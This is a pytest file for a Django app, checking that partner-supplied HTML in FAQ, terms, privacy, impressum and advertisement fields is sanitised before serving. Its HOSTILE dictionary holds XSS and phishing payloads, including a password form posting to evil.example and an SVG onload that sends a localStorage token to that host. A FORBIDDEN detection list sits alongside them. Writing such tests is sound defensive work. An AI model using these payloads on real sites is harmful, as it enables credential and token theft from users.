"""Issue 13 item 7: HTML in a partner's FAQ, terms, privacy, finish, impressum and
advertisement texts is sanitised on the server (nh3, tight allow-list) before it is stored,
so the config call never serves an overlay, a phishing form or a script to the web app."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest
from django.test import Client

from common.partner_config import config_normalise
from tenants.models import Partner
from tenants.services import partner_update

pytestmark = pytest.mark.django_db

HOSTILE = {
    "overlay": '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Sitzung abgelaufen</div>',
    "overlay_class": '<div class="fixed inset-0" id="login">Bitte neu anmelden</div>',
    "form": '<form action="https://evil.example/steal" method="post">Passwort bestätigen:'
    '<input type="password" name="p"><button>OK</button></form>',
    "svg": '<svg onload="fetch(\'https://evil.example/\'+localStorage.access)"><circle r="9"/></svg>',
    "handler": '<p onclick="steal()" onmouseover="steal()">Text</p><img src="https://cdn.example/a.png" onerror="x()">',
    "javascript_url": '<a href="javascript:alert(document.cookie)">AGB</a><a href=" JaVa&#x09;Script:alert(1)">x</a>',
    "data_url": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">PDF</a>'
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "style_tag": "<style>body{visibility:hidden}</style><p>Inhalt</p>",
    "iframe": '<iframe src="https://evil.example/login" style="position:fixed;inset:0"></iframe>',
    "script": "<script>alert(1)</script><p>ok</p>",
}
FORBIDDEN = (
    "<style", "<form", "<input", "<button", "<iframe", "<svg", "<script", "style=", "class=", " id=",
    "onload", "onclick", "onmouseover", "onerror", "javascript:", "data:", "position:fixed", "evil.example",
)  # fmt: skip


def _b64(html: str) -> str:
    return base64.b64encode(html.encode()).decode()


def _unb64(value: str) -> str:
    return base64.b64decode(value).decode()


def hostile_config(html: str) -> dict[str, Any]:
    """The same payload in every field of the configuration the web app renders as HTML."""
    document = {"text": _b64(html)}
    return {
        "pages": {
            "faq": [{"question": "Was ist das?", "answer": html}],
            "termsdetails": document,
            "privacydetails": document,
            "next_year_termsdetails": document,
            "next_year_privacydetails": document,
            "finish": {"text": _b64(html)},
        },
        "show_impressum": True,
        "impressum_details": html,
        "show_data_privacy": True,
        "data_privacy_text": html,
        "partneradvertisement": {"id": 1, "type": "freetext", "freetext": html, "enabled": True},
    }


def rendered_html(config: dict[str, Any]) -> dict[str, str]:
    pages = config["pages"]
    return {
        "faq": pages["faq"][0]["answer"],
        "terms": _unb64(pages["termsdetails"]["text"]),
        "privacy": _unb64(pages["privacydetails"]["text"]),
        "next_year_terms": _unb64(pages["next_year_termsdetails"]["text"]),
        "next_year_privacy": _unb64(pages["next_year_privacydetails"]["text"]),
        "finish": _unb64(pages["finish"]["text"]),
        "impressum": config["impressum_details"],
        "data_privacy": config["data_privacy_text"],
        "advertisement": config["partneradvertisement"]["freetext"],
    }


def _assert_harmless(fields: dict[str, str]) -> None:
    for field, html in fields.items():
        lowered = html.lower()
        for needle in FORBIDDEN:
            assert needle not in lowered, (field, needle, html)


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE.keys())
def test_the_config_call_serves_hostile_partner_html_sanitised(client: Client, payload: str) -> None:
    # given: the partner's configuration saved with the payload in every HTML field
    partner_update(partner=Partner.objects.get(subdomain="autohaus"), config=hostile_config(payload))

    # when
    response = client.get("/api/configs/autohaus/", HTTP_HOST="autohaus.localhost")

    # then
    assert response.status_code == 200
    _assert_harmless(rendered_html(response.json()))


def test_the_designer_preview_serves_the_same_sanitised_html(client: Client) -> None:
    response = client.post(
        "/api/config_previews/",
        json.dumps({"config": hostile_config("".join(HOSTILE.values()))}),
        content_type="application/json",
        HTTP_HOST="localhost",
    )

    assert response.status_code == 200
    _assert_harmless(rendered_html(response.json()))


def test_the_text_survives_and_links_open_safely() -> None:
    html = (
        '<h2 align="center" style="color:red">Fragen</h2><p>Siehe <a href="https://partner.example/agb" '
        'target="_blank">AGB</a>, <a href="mailto:info@partner.example">Mail</a>.</p>'
        '<ul><li><strong>eins</strong></li></ul><img src="https://cdn.example/logo.png" alt="Logo">'
    )

    faq = rendered_html(config_normalise(hostile_config(html)))["faq"]

    assert faq == (
        '<h2 align="center">Fragen</h2><p>Siehe <a href="https://partner.example/agb" target="_blank" '
        'rel="noopener noreferrer">AGB</a>, <a href="mailto:info@partner.example" rel="noopener noreferrer">'
        'Mail</a>.</p><ul><li><strong>eins</strong></li></ul><img src="https://cdn.example/logo.png" alt="Logo">'
    )


def test_phishing_text_inside_a_form_goes_with_the_form() -> None:
    fields = rendered_html(config_normalise(hostile_config(HOSTILE["form"])))

    assert set(fields.values()) == {""}
